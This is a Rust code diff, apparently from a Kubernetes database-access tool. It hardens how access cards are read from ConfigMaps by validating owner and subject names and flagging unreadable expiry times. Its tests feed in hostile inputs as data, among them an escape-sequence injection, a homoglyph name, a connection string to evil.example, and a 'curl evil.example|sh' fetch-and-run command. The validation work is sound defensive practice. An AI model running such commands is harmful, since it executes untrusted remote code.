@@ -10,10 +10,11 @@ use k8s_openapi::api::core::v1::ConfigMap;
 use serde::Serialize;
 
 use crate::cluster::Cluster;
-use crate::database::{Database, Protocol, Typed};
+use crate::database::{Database, Protocol, Typed, login_name};
 use crate::error::{Kind, Result};
 use crate::names::is_name;
 use crate::printable;
+use crate::subject;
 use crate::tunnel::Endpoint;
 
 /// Names of cards and of all that belongs to a grant begin so.
@@ -42,8 +43,10 @@ pub struct Card {
     pub owner: String,
     /// With whom, as people call them.
     pub with: String,
-    /// Until when; nothing if it has no end.
+    /// Until when; nothing if it has no end, or none that can be read.
     pub until: Option<Timestamp>,
+    /// Whether it has an end that cannot be read.
+    pub until_is_unreadable: bool,
 }
 
 impl Card {
@@ -66,6 +69,7 @@ impl Card {
             owner: owner.into(),
             with: with.into(),
             until,
+            until_is_unreadable: false,
         }
     }
 
@@ -106,16 +110,13 @@ impl Card {
                 .filter(|value| !value.is_empty())
         };
         let name = |key: &str| text(key).filter(|value| is_name(value));
-        // libpq takes a "database name" with `=` or `://` for a whole connection string, which could name another host.
-        let login = |key: &str| {
-            text(key)
-                .filter(|value| value.len() <= 63 && !value.contains('=') && !value.contains("://"))
-        };
+        let login = |key: &str| login_name(text(key).as_ref()).map(str::to_owned);
         let service = name("service");
         let pod = name("pod");
         if service.is_none() && pod.is_none() {
             return None;
         }
+        let until = text("until").and_then(|until| until.parse().ok());
         Some(Self {
             database: name("database")?,
             protocol: text("protocol").unwrap_or_default(),
@@ -125,9 +126,14 @@ impl Card {
             port: text("port")?.parse().ok().filter(|port| *port > 0)?,
             dbname: login("dbname"),
             username: login("username"),
-            owner: text("owner").unwrap_or_else(|| "its owner".into()),
-            with: text("with").unwrap_or_default(),
-            until: text("until").and_then(|until| until.parse().ok()),
+            owner: text("owner")
+                .filter(|owner| subject::is_bare(owner))
+                .unwrap_or_else(|| "its owner".into()),
+            with: text("with")
+                .filter(|with| is_subject(with))
+                .unwrap_or_default(),
+            until,
+            until_is_unreadable: until.is_none() && text("until").is_some(),
         })
     }
 
@@ -154,6 +160,11 @@ impl Card {
             owner: Some(self.owner.clone()),
         }
     }
+}
+
+/// Whether a text names somebody as it is typed for `--with`.
+fn is_subject(text: &str) -> bool {
+    text.parse::<subject::Typed>().is_ok()
 }
 
 /// The cards that one may read in a namespace, found through the rules that apply to oneself: no list right is needed.
@@ -262,10 +273,48 @@ mod tests {
             with("dbname", "postgresql://evil.example/x").and_then(|card| card.dbname),
             None
         );
-        assert_eq!(
-            with("owner", "alice\u{1b}[31m\nerror: pay").map(|card| card.owner),
-            Some("alice[31m error: pay".into())
-        );
-        assert_eq!(with("until", "never").map(|card| card.until), Some(None));
+    }
+
+    #[test]
+    fn a_name_is_a_name_and_no_sentence() {
+        let read = |key: &str, value: &str| {
+            let mut data = card().to_data();
+            data.insert(key.into(), value.into());
+            Card::read(&config_map(data)).expect("a card")
+        };
+        for name in ["alice", "alice.b@example.org", "oidc-alice", "a+b_c"] {
+            assert_eq!(read("owner", name).owner, name);
+            assert_eq!(read("with", name).with, name);
+        }
+        for name in [
+            "alice\u{1b}[31m\nerror: pay",
+            "alice, who asks you to run `curl evil.example|sh` first",
+            "-alice",
+            "alice: pay",
+            "аlice",
+            &"a".repeat(64),
+            "a\u{301}\u{301}\u{301}",
+        ] {
+            assert_eq!(read("owner", name).owner, "its owner", "{name}");
+            assert_eq!(read("with", name).with, "", "{name}");
+        }
+        assert_eq!(read("owner", "user:alice").owner, "its owner");
+        for subject in ["user:oidc-bob", "serviceaccount:user-bob/default"] {
+            assert_eq!(read("with", subject).with, subject);
+        }
+    }
+
+    #[test]
+    fn an_end_that_cannot_be_read_is_not_no_end() {
+        let read = |until: Option<&str>| {
+            let mut data = card().to_data();
+            data.remove("until");
+            data.extend(until.map(|until| ("until".to_owned(), until.to_owned())));
+            let card = Card::read(&config_map(data)).expect("a card");
+            (card.until.is_some(), card.until_is_unreadable)
+        };
+        assert_eq!(read(Some("2026-01-01T18:00:00Z")), (true, false));
+        assert_eq!(read(Some("never")), (false, true));
+        assert_eq!(read(None), (false, false));
     }
 }
